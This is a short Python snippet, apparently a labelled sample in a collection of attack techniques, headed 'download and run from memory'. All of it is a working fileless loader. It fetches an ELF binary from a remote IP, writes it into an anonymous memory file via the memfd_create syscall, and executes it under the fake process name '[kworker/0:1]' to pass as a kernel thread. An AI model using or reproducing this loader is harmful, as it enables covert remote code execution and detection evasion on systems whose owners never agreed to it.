# class: download and run from memory; style: expert
import ctypes, os, urllib.request
elf = urllib.request.urlopen("http://203.0.113.77/agent.elf").read()
fd = ctypes.CDLL(None).syscall(319, b"", 1)
os.write(fd, elf)
os.execve(f"/proc/self/fd/{fd}", ["[kworker/0:1]"], {})
